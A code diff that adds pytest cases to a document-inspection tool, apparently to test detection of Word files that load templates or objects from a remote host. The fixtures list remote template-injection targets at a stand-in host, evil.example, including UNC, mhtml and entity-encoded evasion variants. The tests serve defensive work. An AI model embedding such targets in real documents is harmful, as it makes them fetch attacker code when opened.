@@ -12,6 +12,7 @@ from hypothesis import strategies as st
 
 from app.evidence.enums import MediaType
 from app.evidence.inspecting.structure import zips
+from app.evidence.inspecting.structure.links import fetches
 from app.evidence.inspecting.structure.walks import Structure, Verdict
 from tests.support import files
 
@@ -88,6 +89,48 @@ def test_what_runs_or_hides_in_a_document_is_named(parts: dict[str, bytes | str]
     assert not verdict.is_whole
     assert verdict.unsafe is not None
     assert words in verdict.unsafe
+
+
+LINKS = (
+    '<Relationships><Relationship Id="r1" Type="http://x/{}" Target="{}" TargetMode="External"/></Relationships>'
+)
+
+
+@pytest.mark.parametrize(
+    ("kind", "target"),
+    [
+        ("attachedTemplate", "https://evil.example/t.dotm"),
+        ("attachedTemplate", "file://evil.example/share/t.dotm"),
+        ("attachedTemplate", "file:////evil.example/t.dotm"),
+        ("attachedTemplate", r"\\evil.example\t.dotm"),
+        ("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"),
+        ("&#x6F;leObject", "http&#58;//evil.example/a>b"),
+        ("frame", "//evil.example/x"),
+    ],
+)
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_what_a_document_would_fetch_from_elsewhere_is_refused(kind: str, target: str, encoding: str) -> None:
+    links = LINKS.format(kind, target).encode(encoding)
+    assert walk(files.docx({"word/_rels/settings.xml.rels": links})).unsafe == "打开时从别处加载的模板或者对象"
+
+
+@pytest.mark.parametrize(
+    ("kind", "target"),
+    [
+        ("attachedTemplate", r"file:///C:\Users\张建国\Templates\Normal.dotm"),
+        ("attachedTemplate", "file://localhost/Users/zhang/Normal.dotm"),
+        ("attachedTemplate", "Normal.dotm"),
+        ("hyperlink", "https://www.12348.gov.cn/"),
+        ("image", "https://example.org/logo.png"),
+    ],
+)
+def test_links_that_fetch_nothing_that_runs_are_taken(kind: str, target: str) -> None:
+    assert walk(files.docx({"word/_rels/settings.xml.rels": LINKS.format(kind, target)})).is_whole
+
+
+def test_relationships_made_to_be_slow_are_read_at_once() -> None:
+    for attributes in (b"a" * 300_000, b'a="' * 100_000, b"a =   " * 50_000):
+        assert not fetches(b"<Relationship " + attributes)
 
 
 def test_a_workbook_of_a_real_program_is_taken() -> None:
